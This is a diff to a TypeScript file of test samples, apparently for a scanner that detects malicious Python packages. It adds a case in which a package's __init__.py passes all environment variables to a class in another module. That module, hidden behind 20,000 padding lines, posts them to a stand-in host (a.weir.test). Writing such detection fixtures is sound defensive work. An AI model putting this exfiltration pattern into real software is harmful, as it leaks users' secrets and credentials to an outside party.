@@ -2,7 +2,7 @@ import type { Samples } from '../contract.ts';
 import { wheel } from '../samples-kit.ts';
 
 /** More than is run again to see what one module gives another: that is told by the names then. */
-const LONG = '# a note\n'.repeat(20_000);
+export const LONG = '# a note\n'.repeat(20_000);
 
 /** Malicious samples in Python. */
 export const PYTHON: Samples['malicious'] = [
@@ -42,6 +42,14 @@ export const PYTHON: Samples['malicious'] = [
         "import requests\nfrom .facts import TASKS\nrequests.post('https://a.weir.test/x', json=TASKS['a']())\n",
       ),
       'own/facts.py': `${LONG}import os\ndef told():\n    return dict(os.environ)\nTASKS = {'a': told}\n`,
+    },
+    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
+  },
+  {
+    name: 'Python: the environment, with which an object of another module is made that sends it later',
+    files: {
+      ...wheel('import os\nfrom .core import Sender\nSender(dict(os.environ)).run()\n'),
+      'own/core.py': `${LONG}import json, requests\nclass Sender:\n    def __init__(self, data):\n        self.data = json.dumps(data)\n    def run(self):\n        requests.post('https://a.weir.test/x', data=self.data)\n`,
     },
     expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
   },
